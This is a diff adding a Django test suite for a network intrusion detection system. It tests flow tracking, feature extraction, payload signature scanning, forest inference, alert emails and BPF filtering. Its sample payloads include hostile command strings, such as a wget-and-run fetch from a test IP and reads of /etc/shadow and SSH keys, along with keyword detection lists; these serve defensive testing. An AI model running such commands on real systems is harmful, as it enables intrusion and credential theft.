@@ -1,3 +1,1548 @@
-from django.test import TestCase
+import csv
+import glob
+import gzip
+import io
+import json
+import logging
+import os
+import random
+import re
+import signal
+import smtplib
+import socket
+import struct
+import tempfile
+import threading
+import time
+import unittest
+import warnings
+from types import SimpleNamespace
+from unittest import mock
 
-# Create your tests here.
+import numpy as np
+from django.test import TestCase, override_settings
+
+from . import cli, views
+from .IDS import MODELS_DIR, IntrusionDetectionSystem
+from .alert_dispatcher import AlertDispatcher, SMTPConfig
+from .bpf import apply_filter, attach_program, internal_traffic_program
+from .columnar_store import ColumnarWriter
+from .event_log import DroppingQueueHandler, RateLimiter, configure_logging, shutdown_logging
+from .feature_encoder import FeatureEncoder
+from .flow_store import FlowStore, HostStore
+from .forest_compiler import CompiledForest, load_feature_names, load_model
+from .network_feature_extractor import NetworkFeatureExtractor
+from .overload import OverloadManager
+from .packet_dissector import (HeaderRecord, PROTO_ARP, PROTO_ICMP, PROTO_TCP, PROTO_UDP, dissect_frame,
+                               record_from_packet)
+from .payload_scanner import DEFAULT_SIGNATURES, PayloadScanner
+from .pipeline import Pipeline, Stage
+from .record_writer import TRAFFIC_FIELDS, RotatingCSVWriter
+from .replay import iter_pcap
+from .ring_capture import PacketRing, sniff_ring
+from .sharded_extractor import ShardedFeatureExtractor
+from .traffic_windows import TwoSecondWindow
+from .verdict_cache import VerdictCache
+
+FEATURE_NAMES_FILE = os.path.join(MODELS_DIR, "feature_names.pkl")
+
+CLIENT, SERVER = '198.51.100.7', '203.0.113.5'
+
+
+def tcp(timestamp, src, dst, sport, dport, flags, payload=b''):
+    return HeaderRecord(timestamp, 54 + len(payload), 40 + len(payload), PROTO_TCP, src, dst, sport, dport,
+                        flags, payload=payload)
+
+
+def http_connection(start, sport):
+    # Handshake, one request and an orderly close: 7 packets, status SF
+    return [tcp(start, CLIENT, SERVER, sport, 80, 0x02),
+            tcp(start + 0.01, SERVER, CLIENT, 80, sport, 0x12),
+            tcp(start + 0.02, CLIENT, SERVER, sport, 80, 0x10),
+            tcp(start + 0.03, CLIENT, SERVER, sport, 80, 0x18, b'GET / HTTP/1.0\r\n\r\n'),
+            tcp(start + 0.04, SERVER, CLIENT, 80, sport, 0x11),
+            tcp(start + 0.05, CLIENT, SERVER, sport, 80, 0x11),
+            tcp(start + 0.06, SERVER, CLIENT, 80, sport, 0x10)]
+
+
+def tcp_frame(src, dst, sport, dport, flags, payload=b''):
+    # Ethernet/IPv4/TCP frame without checksums
+    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40 + len(payload), 0, 0, 64, PROTO_TCP, 0,
+                     socket.inet_aton(src), socket.inet_aton(dst))
+    return bytes(12) + b'\x08\x00' + ip + struct.pack('!HHIIBBHHH', sport, dport, 0, 0, 0x50, flags, 65535, 0, 0) \
+        + payload
+
+
+def http_frames(start, sport):
+    # http_connection as (Ethernet frame, timestamp) pairs
+    return [(tcp_frame(r.src, r.dst, r.sport, r.dport, r.tcp_flags, r.payload), r.timestamp)
+            for r in http_connection(start, sport)]
+
+
+def build_model(directory, named=False):
+    # A small forest over the shipped feature names, saved like the real model.
+    # A named model is fitted on a DataFrame, as the NSL-KDD model is.
+    import joblib
+    import pandas as pd
+    from sklearn.ensemble import RandomForestClassifier
+
+    names = load_feature_names(FEATURE_NAMES_FILE)
+    rng = np.random.default_rng(0)
+    X = rng.random((600, len(names))) * (rng.random((600, len(names))) < 0.3)
+    X[:, names.index('count')] *= 50
+    y = np.where(X[:, names.index('count')] + X[:, names.index('flag_SF')] > 5, 'anomaly', 'normal')
+    model = RandomForestClassifier(n_estimators=10, max_depth=6, random_state=0)
+    model.fit(pd.DataFrame(X, columns=names) if named else X, y)
+    path = os.path.join(directory, 'model.joblib')
+    joblib.dump(model, path)
+    return path
+
+
+def rejected_connection(start, sport):
+    return [tcp(start, CLIENT, SERVER, sport, 23, 0x02), tcp(start + 0.01, SERVER, CLIENT, 23, sport, 0x14)]
+
+
+def replay(extractor, records):
+    return [extractor.extract_record(record) for record in records]
+
+
+def write_captures(directory, frames):
+    # Writes (frame, timestamp) pairs to a pcap and a pcapng file
+    from scapy.layers.l2 import Ether
+    from scapy.utils import PcapNgWriter, wrpcap
+
+    packets = []
+    for frame, timestamp in frames:
+        packet = Ether(frame)
+        packet.time = timestamp
+        packets.append(packet)
+    pcap, pcapng = os.path.join(directory, 'traffic.pcap'), os.path.join(directory, 'traffic.pcapng')
+    wrpcap(pcap, packets)
+    writer = PcapNgWriter(pcapng)
+    for packet in packets:
+        writer.write(packet)
+    writer.close()
+    return pcap, pcapng
+
+
+class FlowStoreTests(TestCase):
+    def make_store(self, **kwargs):
+        expired = []
+        store = FlowStore(on_expire=lambda slot, reason: expired.append((store._key(slot), reason)), **kwargs)
+        return store, expired
+
+    def test_idle_and_active_timeouts(self):
+        store, expired = self.make_store(idle_timeout=5.0, active_timeout=20.0)
+        store.lookup((1, 2, 80, 6), 100.0)
+        store.lookup((1, 3, 80, 6), 100.0)
+        for now in range(101, 130):
+            store.lookup((1, 2, 80, 6), float(now))
+        # The quiet flow goes idle, the busy one hits the active timeout
+        self.assertEqual(expired, [((1, 3, 80, 6), 'idle'), ((1, 2, 80, 6), 'active')])
+        self.assertEqual(store.evicted['idle'], 1)
+        self.assertEqual(store.evicted['active'], 1)
+
+    def test_touched_flow_is_rescheduled(self):
+        store, expired = self.make_store(idle_timeout=5.0)
+        for now in range(100, 160, 2):
+            store.lookup((1, 2, 80, 6), float(now))
+        self.assertEqual(expired, [])
+        store.advance(170.0)
+        self.assertEqual(expired, [((1, 2, 80, 6), 'idle')])
+        self.assertEqual(len(store), 0)
+
+    def test_jump_past_a_wheel_revolution(self):
+        store, expired = self.make_store(idle_timeout=5.0, wheel_size=8)
+        store.lookup((1, 2, 80, 6), 100.0)
+        store.lookup((1, 3, 80, 6), 10000.0)
+        self.assertEqual(expired, [((1, 2, 80, 6), 'idle')])
+
+    def test_full_table_evicts_least_recently_used(self):
+        store, expired = self.make_store(max_flows=3)
+        store.lookup((1, 2, 80, 6), 100.0)
+        store.lookup((1, 3, 80, 6), 101.0)
+        store.lookup((1, 2, 80, 6), 102.0)
+        store.lookup((1, 4, 80, 6), 103.0)
+        store.lookup((1, 5, 80, 6), 104.0)
+        self.assertEqual(expired, [((1, 3, 80, 6), 'lru')])
+        self.assertEqual(len(store), 3)
+
+    def test_expire_all_oldest_first(self):
+        store, expired = self.make_store()
+        for port, now in ((81, 103.0), (82, 101.0), (83, 102.0)):
+            store.lookup((1, 2, port, 6), now)
+        store.lookup((1, 2, 81, 6), 104.0)
+        store.expire_all('flush')
+        self.assertEqual([key[2] for key, _ in expired], [82, 83, 81])
+        self.assertEqual(len(store), 0)
+        self.assertTrue(all(head == -1 for head in store.wheel))
+
+
+    def test_time_base_moves_before_overflow(self):
+        store, expired = self.make_store()
+        store.lookup((1, 2, 80, 6), 1000.0)
+        later = 1000.0 + 30 * 86400
+        slot = store.lookup((1, 3, 80, 6), later)
+        store.lookup((1, 3, 80, 6), later + 1.5)
+        self.assertEqual(expired, [((1, 2, 80, 6), 'idle')])
+        self.assertGreater(store.epoch, 1000.0)
+        self.assertAlmostEqual(store.start_time(slot), later, places=3)
+        self.assertAlmostEqual(store.duration(slot), 1.5)
+
+    def test_bytes_per_flow(self):
+        # The request's budget: under 100 bytes per tracked flow, index,
+        # links and timer wheel included
+        store, expired = self.make_store(max_flows=100000)
+        for n in range(100000):
+            store.lookup((n, 0x0a000001, 40000 << 16 | 80, 6), 1000.0 + n / 10000)
+        self.assertEqual((len(store), expired), (100000, []))
+        self.assertLess(store.memory_bytes() / len(store), 100)
+        store.expire_all('flush')
+        self.assertTrue(all(head == -1 for head in store.wheel))
+
+
+class HostStoreTests(TestCase):
+    def test_full_table_evicts_least_recently_seen(self):
+        hosts = HostStore(max_hosts=2, window_size=4)
+        first = hosts.lookup(1, 100.0)
+        hosts.add(first, 10, 40000, 80, False, False)
+        second = hosts.lookup(2, 101.0)
+        hosts.lookup(1, 102.0)
+        hosts.lookup(3, 103.0)
+        self.assertEqual(hosts.evicted, 1)
+        self.assertEqual(hosts.find((2,)), -1)
+        self.assertEqual(hosts.find((1,)), first)
+        self.assertEqual(hosts.stats(first, 10, 40000, 80)[:2], (1, 1))
+        self.assertNotEqual(second, first)
+
+
+class HostWindowTests(TestCase):
+    def test_one_entry_per_connection(self):
+        features = replay(NetworkFeatureExtractor(), http_connection(100.0, 40000))
+        self.assertEqual([f['dst_host_count'] for f in features], [1] * 7)
+        self.assertEqual(features[-1]['dst_host_srv_count'], 1)
+
+    def test_error_bits_follow_the_status(self):
+        features = replay(NetworkFeatureExtractor(), http_connection(100.0, 40000))
+        # The lone SYN is S0 until the SYN-ACK arrives
+        self.assertEqual(features[0]['dst_host_serror_rate'], 1.0)
+        self.assertEqual(features[-1]['flag'], 'SF')
+        self.assertEqual(features[-1]['dst_host_serror_rate'], 0.0)
+
+        features = replay(NetworkFeatureExtractor(), rejected_connection(100.0, 40000))
+        self.assertEqual(features[-1]['flag'], 'REJ')
+        self.assertEqual(features[-1]['dst_host_count'], 1)
+        self.assertEqual(features[-1]['dst_host_rerror_rate'], 1.0)
+        self.assertEqual(features[-1]['dst_host_serror_rate'], 0.0)
+
+    def test_many_connections(self):
+        extractor = NetworkFeatureExtractor()
+        for i in range(30):
+            features = replay(extractor, http_connection(100.0 + i * 0.05, 40000 + i))
+        self.assertEqual(features[-1]['dst_host_count'], 30)
+        self.assertEqual(features[-1]['dst_host_same_src_port_rate'], 1 / 30)
+        self.assertEqual(features[-1]['dst_host_serror_rate'], 0.0)
+
+    def test_window_size_bounds_the_count(self):
+        extractor = NetworkFeatureExtractor(host_window_size=10)
+        for i in range(15):
+            features = replay(extractor, rejected_connection(100.0 + i, 40000 + i))
+        self.assertEqual(features[-1]['dst_host_count'], 10)
+        self.assertEqual(features[-1]['dst_host_rerror_rate'], 1.0)
+
+    def test_status_change_after_leaving_the_window(self):
+        extractor = NetworkFeatureExtractor(host_window_size=2)
+        handshake = http_connection(100.0, 40000)
+        extractor.extract_record(handshake[0])
+        for i in range(2):
+            replay(extractor, rejected_connection(100.1 + i * 0.1, 41000 + i))
+        # The SYN-ACK turns the first connection into S1, but its entry is gone
+        features = extractor.extract_record(handshake[1])
+        self.assertEqual(features['dst_host_count'], 2)
+        self.assertEqual(features['dst_host_serror_rate'], 0.0)
+        self.assertEqual(features['dst_host_rerror_rate'], 1.0)
+
+
+class TwoSecondWindowTests(TestCase):
+    def test_counts_connections_with_their_final_status(self):
+        extractor = NetworkFeatureExtractor()
+        for i in range(30):
+            features = replay(extractor, http_connection(100.0 + i * 0.05, 40000 + i))
+        self.assertEqual(features[-1]['count'], 30)
+        self.assertEqual(features[-1]['srv_count'], 30)
+        self.assertEqual(features[-1]['serror_rate'], 0.0)
+        self.assertEqual(features[-1]['same_srv_rate'], 1.0)
+
+    def test_flow_records(self):
+        extractor = NetworkFeatureExtractor(emission='flow')
+        for i in range(30):
+            replay(extractor, http_connection(100.0 + i * 0.05, 40000 + i))
+        for i in range(10):
+            replay(extractor, rejected_connection(110.0 + i * 0.01, 41000 + i))
+        records = extractor.flush()
+        self.assertEqual(len(records), 40)
+        self.assertEqual(records[29]['count'], 30)
+        self.assertEqual(records[29]['serror_rate'], 0.0)
+        # Connections that started more than two seconds earlier have left
+        self.assertEqual(records[-1]['flag'], 'REJ')
+        self.assertEqual(records[-1]['count'], 10)
+        self.assertEqual(records[-1]['rerror_rate'], 1.0)
+        self.assertEqual(records[-1]['serror_rate'], 0.0)
+
+    def test_update_after_expiry_is_ignored(self):
+        window = TwoSecondWindow()
+        bucket = window.add(SERVER, 80, True, False, 100.0)
+        window.update(bucket, SERVER, 80, (True, False), (False, False))
+        self.assertEqual(window.stats(SERVER, 80)[:3], (1, 1, 0.0))
+        window.add(SERVER, 80, True, False, 103.0)
+        window.update(bucket, SERVER, 80, (False, False), (False, True))
+        self.assertEqual(window.stats(SERVER, 80)[:5], (1, 1, 1.0, 1.0, 0.0))
+
+
+class FlowTickTests(TestCase):
+    def test_quiet_flow_is_emitted_by_tick(self):
+        extractor = NetworkFeatureExtractor(emission='flow', flow_idle_timeout=5.0)
+        replay(extractor, http_connection(100.0, 40000)[:3])
+        self.assertEqual(extractor.tick(103.0), [])
+        records = extractor.tick(110.0)
+        self.assertEqual([record['flow_end'] for record in records], ['idle'])
+        self.assertEqual(records[0]['packets'], 3)
+        self.assertEqual(len(extractor.connections), 0)
+
+    def test_tick_follows_the_wall_clock_after_the_last_packet(self):
+        extractor = NetworkFeatureExtractor(emission='flow', flow_idle_timeout=5.0)
+        self.assertEqual(extractor.tick(), [])
+        replay(extractor, http_connection(100.0, 40000)[:3])
+        self.assertEqual(extractor.tick(), [])
+        packet_time, _ = extractor.clock
+        extractor.clock = (packet_time, time.monotonic() - 10.0)
+        self.assertEqual([record['flow_end'] for record in extractor.tick()], ['idle'])
+
+    def test_stage_ticks_without_input(self):
+        ticked = threading.Event()
+        received = []
+
+        def sink(batch):
+            received.extend(batch)
+            if len(received) >= 3:
+                ticked.set()
+
+        stage = Stage('extract', lambda batch: batch, tick=lambda: ['tick'], tick_interval=0.01)
+        stage.downstream = Stage('output', sink)
+        stage.downstream.start()
+        stage.start()
+        self.assertTrue(ticked.wait(5.0))
+        stage.put('item')
+        stage.stop()
+        stage.downstream.stop()
+        self.assertIn('item', received)
+        self.assertEqual(received.count('tick'), len(received) - 1)
+
+    def test_only_single_worker_stages_tick(self):
+        with self.assertRaises(ValueError):
+            Stage('extract', list, workers=2, tick=list)
+
+
+class ShardedExtractorTests(TestCase):
+    def test_idle_workers_emit_flows_and_report_counters(self):
+        sharded = ShardedFeatureExtractor(2, extractor_kwargs={'emission': 'flow', 'flow_idle_timeout': 0.5},
+                                          tick_interval=0.1)
+        try:
+            now = time.time()
+            sharded.submit(tcp_frame(CLIENT, SERVER, 40000, 80, 0x02), now)
+            sharded.submit(tcp_frame(SERVER, CLIENT, 80, 40000, 0x12), now + 0.01)
+            sharded.submit(tcp_frame(CLIENT, SERVER, 40001, 23, 0x02), now + 0.02)
+            sharded.submit(tcp_frame(SERVER, CLIENT, 23, 40001, 0x14), now + 0.03)
+            sharded.flush()
+            records = []
+            deadline = time.time() + 10.0
+            while len(records) < 2 and time.time() < deadline:
+                records += sharded.poll(timeout=0.5)
+        finally:
+            records += sharded.close()
+        self.assertEqual(sorted(record['flow_end'] for record in records), ['idle', 'rst'])
+        counters = sharded.counters()
+        self.assertEqual(counters['workers'], 2)
+        self.assertEqual(counters['frames'], 4)
+        self.assertEqual(counters['evicted_flows']['idle'], 1)
+        self.assertEqual(counters['evicted_flows']['rst'], 1)
+        self.assertEqual(counters['open_flows'], 0)
+
+
+SAMPLE_PAYLOADS = [
+    b'GET /index.html HTTP/1.1\r\nHost: example.com\r\n\r\n',
+    b'GET /cgi-bin/run.php?cmd=id HTTP/1.1\r\n\r\n',
+    b'POST /upload HTTP/1.1\r\n\r\nsystem("wget http://203.0.113.9/x; sh x")',
+    b'cat /etc/passwd /etc/shadow; ls -la /root/.ssh/id_rsa',
+    b'sudo su root -c bash',
+    b'su - root\nPassword:\nLogin Failed\n',
+    b'220 FTP ready\r\nUSER anonymous\r\n230 Login successful.\r\n',
+    b'rlogin host; rsh host mkdir /var/tmp/x; touch /usr/local/f; chmod 777 f; chown root f',
+    b'gcc -o rootkit exploit.c && make backdoor  # vulnerable',
+    b'bashell shell_exec passthru EVAL(eval) /bin/sh cmd.exe curl|wget',
+    b'SHELL Shell shell-exec exec_ x_exec Bash',
+    b'\x00\x01\x02binary /Bin/ \xffsu \xfe',
+    b'authenticated guest telnet create mkfile ls -l',
+]
+
+
+def signature_oracle(signatures, payload):
+    # One regex search per signature
+    hits = {}
+    for sig in signatures:
+        pattern = re.escape(sig.pattern)
+        if sig.word:
+            pattern = rb'(?<![A-Za-z0-9_])' + pattern + rb'(?![A-Za-z0-9_])'
+        if re.search(pattern, payload, re.IGNORECASE if sig.nocase else 0):
+            hits[sig.counter] = hits.get(sig.counter, 0) + sig.weight
+    return hits
+
+
+def baseline_features(payload):
+    # The content features as the original extractor computed them from one
+    # HTTP packet, with the same substring tests on the decoded payload
+    text = payload.decode('latin-1')
+    hot = sum(2 for name in ['/etc/passwd', '/etc/shadow', '.ssh/id_rsa'] if name in text)
+    hot += sum(1 for path in ['/etc/', '/usr/', '/var/', '/root/'] if path in text)
+    hot += sum(1 for cmd in ['gcc', 'make', 'sudo', 'su'] if cmd in text)
+    root_shell = 'root' in text and ('shell' in text or 'bash' in text)
+    hot += 2 if root_shell else 0
+    hot += 1 if 'su ' in text else 0
+
+    outbound = 0
+    request = text.split(' ', 2)
+    if request[0] in ('GET', 'POST') and len(request) > 1 and \
+            any(cmd in request[1].lower() for cmd in ['cmd', 'exec', 'command', 'run']):
+        outbound = 1
+    patterns = [r"\bexec\b", r"\beval\b", r"\bsystem\b", r"\bshell_exec\b", r"\bpassthru\b", r"\bcmd\.exe\b",
+                r"\bbash\b", r"\bsh\b", r"/bin/", r"\bcurl\b", r"\bwget\b"]
+    if any(re.search(pattern, text, re.IGNORECASE | re.ASCII) for pattern in patterns):
+        outbound = 1
+
+    return {
+        'hot': hot,
+        'root_shell': int(root_shell),
+        'su_attempted': int('su ' in text),
+        'num_failed_logins': int('login failed' in text.lower()),
+        'num_shells': int('shell' in text.lower()),
+        'num_file_creations': int(any(word in text for word in ['create', 'touch', 'mkdir', 'mkfile'])),
+        'is_host_login': int(any(word in text for word in ['rlogin', 'rsh', 'telnet'])),
+        'is_guest_login': int(any(word in text for word in ['guest', 'anonymous'])),
+        'num_compromised': int(any(word in text for word in ['rootkit', 'exploit', 'vulnerab', 'backdoor'])),
+        'num_root': int(any(word in text for word in ['root', 'sudo', 'su'])),
+        'logged_in': int(any(word in text for word in ['login successful', 'authenticated'])),
+        'num_access_files': int(any(word in text for word in ['chmod', 'chown', 'ls -l', 'ls -la'])),
+        'num_outbound_cmds': outbound,
+    }
+
+
+def generated_payloads(count, seed=4):
+    # Signature literals glued together in random case, so that matches
+    # overlap, nest and touch word characters
+    rng = random.Random(seed)
+    pieces = [sig.pattern for sig in DEFAULT_SIGNATURES] + [b' ', b'_', b'x', b'/', b'\n', b'-', b'9']
+    payloads = []
+    for _ in range(count):
+        payload = b''.join(rng.choice(pieces) for _ in range(rng.randint(1, 12)))
+        payloads.append(bytes(byte ^ 0x20 if 0x61 <= byte | 0x20 <= 0x7a and rng.random() < 0.2 else byte
+                              for byte in payload))
+    return payloads
+
+
+class PayloadScannerTests(TestCase):
+    def test_matches_one_search_per_signature(self):
+        scanner = PayloadScanner()
+        for payload in SAMPLE_PAYLOADS + generated_payloads(2000):
+            self.assertEqual(scanner.scan(payload), signature_oracle(DEFAULT_SIGNATURES, payload), payload)
+
+    def test_content_features_match_the_baseline(self):
+        extractor = NetworkFeatureExtractor()
+        for port, payload in enumerate(SAMPLE_PAYLOADS + generated_payloads(300), 20000):
+            features = extractor.extract_record(tcp(100.0, CLIENT, SERVER, port, 80, 0x18, payload))
+            expected = baseline_features(payload)
+            self.assertEqual({name: features[name] for name in expected}, expected, payload)
+
+    def test_empty_payload(self):
+        self.assertEqual(PayloadScanner().scan(b''), {})
+
+
+class CompiledForestTests(TestCase):
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        from sklearn.ensemble import RandomForestClassifier
+
+        rng = np.random.default_rng(9)
+        X = rng.normal(size=(600, 6)).astype(np.float32)
+        X[:, 5] = rng.integers(0, 3, size=600)  # a one-hot like column with ties
+        y = np.where(X[:, 0] + X[:, 1] * X[:, 2] > 0.3, 'anomaly', 'normal')
+        y[X[:, 5] == 2] = 'other'
+        cls.model = RandomForestClassifier(n_estimators=12, max_depth=8, random_state=0).fit(X, y)
+
+        # Fresh samples plus values exactly on, just below and just above
+        # every split threshold
+        thresholds = np.concatenate([estimator.tree_.threshold[estimator.tree_.children_left != -1]
+                                     for estimator in cls.model.estimators_])
+        edges = np.concatenate([thresholds, np.nextafter(thresholds, -np.inf), np.nextafter(thresholds, np.inf)])
+        cls.X = np.vstack([rng.normal(size=(300, 6)), np.tile(edges[:, None], (1, 6))]).astype(np.float32)
+
+    def assert_identical(self, compiled):
+        expected = self.model.predict_proba(self.X)
+        actual = compiled.predict_proba(self.X)
+        self.assertTrue(np.array_equal(expected, actual))
+        self.assertTrue(np.array_equal(self.model.predict(self.X), compiled.predict(self.X)))
+
+    def test_breadth_first_order(self):
+        self.assert_identical(CompiledForest.from_sklearn(self.model, reorder=True))
+
+    def test_original_order(self):
+        self.assert_identical(CompiledForest.from_sklearn(self.model, reorder=False))
+
+    def test_save_and_load(self):
+        for reorder in (True, False):
+            with tempfile.TemporaryDirectory() as directory:
+                path = os.path.join(directory, 'model.npz')
+                CompiledForest.from_sklearn(self.model, reorder=reorder).save(path)
+                loaded = load_model(path)
+                self.assertIsInstance(loaded, CompiledForest)
+                self.assertEqual(list(loaded.classes_), list(self.model.classes_))
+                self.assert_identical(loaded)
+
+
+class TrafficExportTests(TestCase):
+    # The traffic views read the source named by the record format, and the
+    # export is streamed rather than built in memory
+    def setUp(self):
+        directory = tempfile.TemporaryDirectory()
+        self.addCleanup(directory.cleanup)
+        self.store_dir = os.path.join(directory.name, 'traffic_store')
+        self.csv_path = os.path.join(directory.name, 'traffic_data.csv')
+        writer = ColumnarWriter(self.store_dir, segment_rows=1000)
+        writer.start()
+        for index in range(2500):  # three segments
+            features = {'timestamp': 1000.0 + index, 'protocol_type': 'tcp', 'flag': 'SF', 'service': 'http'}
+            writer.write((features, 'normal' if index % 5 else 'anomaly'))
+        writer.close()
+        with open(self.csv_path, 'w') as f:
+            f.write('duration,protocol_type,flag,class\n0,udp,SF,normal\n')
+        for name, value in (('TRAFFIC_STORE_DIR', self.store_dir), ('TRAFFIC_DATA_CSV', self.csv_path)):
+            patcher = mock.patch.object(views, name, value)
+            patcher.start()
+            self.addCleanup(patcher.stop)
+
+    @override_settings(IDS_RECORD_FORMAT='columnar')
+    def test_columnar_export(self):
+        response = self.client.get('/api/get-traffic-data-csv/')
+        self.assertTrue(response.streaming)
+        lines = b''.join(response.streaming_content).decode().splitlines()
+        self.assertEqual(lines[0], ','.join([name for name, _ in TRAFFIC_FIELDS] + ['class']))
+        self.assertEqual(len(lines), 2501)
+        self.assertEqual(sum(line.endswith(',anomaly') for line in lines), 500)
+
+        summary = self.client.get('/api/get-csv-data/').json()
+        self.assertEqual((summary['total_packets'], summary['anomaly_packets']), (2500, 500))
+
+    @override_settings(IDS_RECORD_FORMAT='csv')
+    def test_csv_export_ignores_store(self):
+        response = self.client.get('/api/get-traffic-data-csv/')
+        self.assertTrue(response.streaming)
+        with open(self.csv_path, 'rb') as f:
+            self.assertEqual(b''.join(response.streaming_content), f.read())
+        self.assertEqual(self.client.get('/api/get-csv-data/').json()['total_packets'], 1)
+
+
+class FakeSMTP:
+    # Records what the dispatcher does with its SMTP sessions; the first
+    # `failures` sends across all sessions raise
+    failures = 0
+    sessions = []
+
+    def __init__(self, server, port, timeout=None):
+        self.sent = []
+        self.calls = []
+        FakeSMTP.sessions.append(self)
+
+    def starttls(self):
+        self.calls.append('starttls')
+
+    def login(self, user, password):
+        self.calls.append('login')
+
+    def send_message(self, message):
+        if FakeSMTP.failures:
+            FakeSMTP.failures -= 1
+            raise smtplib.SMTPServerDisconnected('connection lost')
+        self.sent.append(message)
+
+    def quit(self):
+        self.calls.append('quit')
+
+    def close(self):
+        self.calls.append('close')
+
+
+class AlertDispatcherTests(TestCase):
+    def setUp(self):
+        FakeSMTP.failures = 0
+        FakeSMTP.sessions = []
+
+    def dispatcher(self, **kwargs):
+        config = SMTPConfig('smtp.example.org', 587, 'ids@example.org', 'admin@example.org', 'secret')
+        dispatcher = AlertDispatcher(config, smtp_factory=FakeSMTP, backoff=0.01, **kwargs)
+        dispatcher.start()
+        return dispatcher
+
+    def sent(self):
+        return [message for session in FakeSMTP.sessions for message in session.sent]
+
+    def test_coalesces_alerts_into_one_digest(self):
+        dispatcher = self.dispatcher(window=60.0, samples_per_group=2)
+        for index in range(6):
+            dispatcher.submit({'severity': 'HIGH', 'src_ip': CLIENT, 'dst_ip': SERVER, 'message': f'high {index}'})
+        for index in range(4):
+            dispatcher.submit({'severity': 'LOW', 'src_ip': '192.0.2.1', 'dst_ip': SERVER, 'message': f'low {index}'})
+        dispatcher.close()
+
+        messages = self.sent()
+        self.assertEqual(len(messages), 1)
+        self.assertEqual(messages[0]['Subject'], 'IDS Alert: 10 alerts (HIGH)')
+        body = messages[0].get_payload()[0].get_payload()
+        self.assertIn('HIGH: 6', body)
+        self.assertIn('LOW: 4', body)
+        self.assertIn('high 1', body)
+        self.assertNotIn('high 2', body)  # only samples_per_group examples per group
+        self.assertEqual(dispatcher.stats['submitted'], 10)
+        self.assertEqual(dispatcher.stats['digests_sent'], 1)
+
+    def test_session_is_reused_between_digests(self):
+        dispatcher = self.dispatcher(window=0.1)
+        for _ in range(3):
+            dispatcher.submit({'severity': 'MEDIUM', 'src_ip': CLIENT, 'dst_ip': SERVER})
+            time.sleep(0.3)  # let the window close
+        dispatcher.close()
+
+        self.assertEqual(len(self.sent()), 3)
+        self.assertEqual(len(FakeSMTP.sessions), 1)
+        self.assertEqual(FakeSMTP.sessions[0].calls, ['starttls', 'login', 'quit'])
+
+    def test_idle_session_is_reopened(self):
+        dispatcher = self.dispatcher(window=0.1, session_idle=0.0)
+        for _ in range(2):
+            dispatcher.submit({'severity': 'MEDIUM', 'src_ip': CLIENT, 'dst_ip': SERVER})
+            time.sleep(0.3)
+        dispatcher.close()
+
+        self.assertEqual(len(self.sent()), 2)
+        self.assertEqual(len(FakeSMTP.sessions), 2)
+
+    def test_default_factory_is_smtplib(self):
+        config = SMTPConfig('smtp.example.org', 25, 'ids@example.org', 'admin@example.org', starttls=False)
+        dispatcher = AlertDispatcher(config)
+        self.assertIsNone(dispatcher.smtp_factory)
+        with mock.patch('smtplib.SMTP', FakeSMTP):
+            dispatcher.start()
+            dispatcher.submit({'severity': 'LOW', 'src_ip': CLIENT, 'dst_ip': SERVER})
+            dispatcher.close()
+        self.assertEqual(len(self.sent()), 1)
+        self.assertEqual(FakeSMTP.sessions[0].calls, ['quit'])
+
+    def test_retries_failed_sends_on_a_new_session(self):
+        FakeSMTP.failures = 2
+        dispatcher = self.dispatcher(retries=3)
+        with self.assertLogs('ids_app.alert_dispatcher', 'WARNING') as logs:
+            dispatcher.submit({'severity': 'HIGH', 'src_ip': CLIENT, 'dst_ip': SERVER})
+            dispatcher.close()
+        self.assertEqual(len(logs.records), 2)
+
+        self.assertEqual(len(self.sent()), 1)
+        self.assertEqual(len(FakeSMTP.sessions), 3)
+        self.assertEqual(dispatcher.stats['digests_sent'], 1)
+        self.assertEqual(dispatcher.stats['digests_failed'], 0)
+
+    def test_gives_up_after_retries(self):
+        FakeSMTP.failures = 10
+        dispatcher = self.dispatcher(retries=2)
+        with self.assertLogs('ids_app.alert_dispatcher', 'WARNING') as logs:
+            dispatcher.submit({'severity': 'HIGH', 'src_ip': CLIENT, 'dst_ip': SERVER})
+            dispatcher.close()
+        self.assertEqual(logs.records[-1].getMessage(), 'Alert digest dropped after retries')
+
+        self.assertEqual(self.sent(), [])
+        self.assertEqual(FakeSMTP.failures, 7)  # three attempts
+        self.assertEqual(dispatcher.stats['digests_failed'], 1)
+
+
+def packet_sockets_allowed():
+    # Packet sockets need CAP_NET_RAW (and Linux)
+    try:
+        socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
+    except (AttributeError, PermissionError):
+        return False
+    return True
+
+
+def run_bpf(program, frame):
+    # Classic BPF interpreter for the instructions internal_traffic_program
+    # uses; a load past the end of the frame drops it, as in the kernel
+    pc = accumulator = 0
+    while True:
+        code, jt, jf, k = program[pc]
+        if code in (0x28, 0x20):
+            size = 2 if code == 0x28 else 4
+            if k + size > len(frame):
+                return 0
+            accumulator = int.from_bytes(frame[k:k + size], 'big')
+        elif code == 0x54:
+            accumulator &= k
+        elif code == 0x15:
+            pc += jt if accumulator == k else jf
+        elif code == 0x06:
+            return k
+        else:
+            raise ValueError(f"unexpected opcode {code:#x}")
+        pc += 1
+
+
+def filter_frames(marker):
+    # (frame, accepted by the internal-traffic exclusion)
+    def ethernet(ethertype, payload):
+        return bytes(12) + struct.pack('!H', ethertype) + payload
+
+    ipv4_private = tcp_frame('10.1.2.3', '192.168.7.8', 40000, 80, 0x02, marker)
+    ip_header = ipv4_private[14:34]  # private addresses at the IPv4 offsets
+    return [(ipv4_private, False),
+            (tcp_frame('172.16.0.1', '10.9.9.9', 40000, 80, 0x02, marker), False),
+            (tcp_frame('172.31.255.255', '172.16.0.0', 40000, 80, 0x02, marker), False),
+            (tcp_frame('10.1.2.3', CLIENT, 40000, 80, 0x02, marker), True),
+            (tcp_frame(SERVER, '192.168.7.8', 40000, 80, 0x02, marker), True),
+            (tcp_frame('172.32.0.1', '10.1.2.3', 40000, 80, 0x02, marker), True),  # just outside 172.16/12
+            (ethernet(0x86dd, ip_header + marker), True),  # IPv6
+            (ethernet(0x0806, ip_header + marker), True)]  # ARP
+
+
+class InternalTrafficProgramTests(TestCase):
+    def test_program_on_frames(self):
+        program = internal_traffic_program()
+        for frame, accepted in filter_frames(b'marker'):
+            self.assertEqual(bool(run_bpf(program, frame)), accepted)
+        self.assertEqual(run_bpf(program, bytes(12) + b'\x08\x00'), 0)  # truncated IPv4
+
+    @unittest.skipUnless(packet_sockets_allowed(), "needs CAP_NET_RAW")
+    def test_kernel_applies_program(self):
+        marker = os.urandom(8).hex().encode()
+        cases = filter_frames(marker)
